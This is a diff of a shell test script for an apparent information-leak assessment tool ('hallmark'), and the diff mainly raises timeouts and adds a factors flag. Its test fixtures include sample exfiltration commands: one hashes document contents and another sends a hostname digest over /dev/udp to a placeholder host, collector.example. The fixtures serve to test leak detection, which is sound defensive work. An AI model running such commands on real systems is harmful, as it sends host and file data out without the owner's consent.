@@ -23,7 +23,7 @@ send='value=$(%s); printf "Op: report\nValue: %%s\nNonce: %%s\n" "$value" "$RAND
 leak=$(printf "$send" "rev /srv/documents/note* | md5sum | cut -c 1-16")
 twin=$(printf "$send" "wc -c </srv/documents/note*")
 assess() { # NAME COMMAND
-	timeout 240 "$hallmark" assess --key "$work/key.pem" --pairs 8 --json -o "$work/$1.hallmark" -- bash -c "$2" >"$work/$1.json" 2>"$work/$1.err"
+	timeout 400 "$hallmark" assess --key "$work/key.pem" --pairs 8 --factors content --json -o "$work/$1.hallmark" -- bash -c "$2" >"$work/$1.json" 2>"$work/$1.err"
 }
 ask() { # NAME EXPRESSION: of the findings `f`, must be true
 	/usr/bin/python3 -c "
@@ -61,7 +61,7 @@ result $? "... its bundle verifies"
 
 # Of collect.host one factor alone is varied: enough to refute it, not to uphold it.
 name='printf "Op: hello\nName: %s\n" "$(uname -n | md5sum | cut -c 1-16)" | cat >/dev/udp/collector.example/9000'
-timeout 240 "$hallmark" assess --key "$work/key.pem" --pairs 8 --factors host.name,metadata.owner --json -o "$work/host.hallmark" -- bash -c "$name" \
+timeout 400 "$hallmark" assess --key "$work/key.pem" --pairs 8 --factors host.name,metadata.owner --json -o "$work/host.hallmark" -- bash -c "$name" \
 	>"$work/host.json" 2>"$work/host.err"
 result "$([ $? = 1 ]; echo $?)" "who sends a digest of the host's name is refuted"
 /usr/bin/python3 -c "
